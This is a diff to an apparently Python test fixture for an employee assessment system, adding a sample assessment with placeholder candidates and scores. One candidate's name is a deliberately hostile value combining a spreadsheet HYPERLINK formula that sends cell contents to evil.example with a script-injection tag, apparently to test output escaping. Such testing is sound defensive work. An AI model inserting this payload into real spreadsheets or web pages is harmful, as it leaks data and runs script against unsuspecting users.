@@ -5,15 +5,17 @@ from __future__ import annotations
 from decimal import Decimal
 
 from lianbing.domain.assessment.assessment import (
+    Assessment,
     Candidate,
     Level,
     MarkedItem,
     Scheme,
+    assess,
 )
 from lianbing.domain.assessment.sources import skill_part
 from lianbing.domain.drills.papers import Basis, Employee
 from lianbing.domain.items.question import Skill
-from lianbing.domain.kernel.periods import Span
+from lianbing.domain.kernel.periods import Period, Span
 
 HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"x")<script>alert(1)</script>'
 SCHEME = Scheme(
@@ -82,4 +84,26 @@ def candidate(number: str, name: str, points: str, first_entry: int, missing: tu
         )
     return Candidate(
         Employee(id=number, name=name, team="城区一组" if number < "C0003" else "乡镇组"), tuple(marks), missing
+    )
+
+
+def sample() -> Assessment:
+    """The assessment itself."""
+    people = (
+        candidate("0007", "样例丙", "1 1.5 2.5 4 2 4 1", 15),
+        candidate("C0001", "样例甲", "2 3 2.5 5 3 4 2", 1),
+        candidate("C0002", HOSTILE, "2 1.5 0 0 3 2 3", 8),
+        candidate("C0003", "样例丁", "2 3 2.5 5 3 ? 0", 22),
+        candidate("C0004", "样例戊", "x x x x x x x", 0, tuple(DRILLS)),
+        candidate("C0005", "样例己", "2 0 2.5 5 x x x", 29, ("2026H2-b",)),
+    )
+    return Assessment(
+        period=Period.parse("2026H2"),
+        made_at="2026-12-28T17:05:00+08:00",
+        scheme=SCHEME,
+        drills=DRILLS,
+        results=assess(SCHEME, people),
+        basis=BASIS,
+        ledger_sequence=32,
+        ledger_digest="3f" * 32,
     )
